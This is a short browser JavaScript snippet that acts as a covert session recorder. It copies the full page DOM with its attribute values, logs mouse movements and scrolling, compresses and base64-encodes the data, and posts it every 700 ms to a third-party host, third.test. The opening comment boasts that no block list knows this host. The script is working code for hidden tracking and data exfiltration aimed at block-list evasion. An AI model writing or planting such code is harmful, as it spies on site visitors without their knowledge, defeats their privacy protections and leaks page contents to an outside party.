// Records the visit in a form of its own, packs it, and sends it to a host that no
// list knows.
const names = [], seen = [];
const at = n => {
  const i = names.indexOf(n);
  return i < 0 ? names.push(n) - 1 : i;
};
const copy = n => n.nodeType === 3 ? n.data : n.nodeType === 1 ? [at(n.localName), [...n.attributes].map(a => [a.name, a.value]), [...n.childNodes].map(copy)] : 0;
const page = copy(document.documentElement);
addEventListener("mousemove", e => seen.push([Math.round(performance.now()), e.clientX, e.clientY]), true);
addEventListener("scroll", () => seen.push([Math.round(performance.now()), 0, scrollY]), true);
let first = true;
setInterval(async () => {
  if (!seen.length && !first) return;
  const text = JSON.stringify({n: first ? names : [], p: first ? page : 0, s: seen.splice(0)});
  first = false;
  const packed = new Uint8Array(await new Response(new Blob([text]).stream().pipeThrough(new CompressionStream("deflate"))).arrayBuffer());
  fetch("https://third.test/-/collect", {method: "POST", body: JSON.stringify({v: 3, d: btoa(String.fromCharCode(...packed))})});
}, 700);
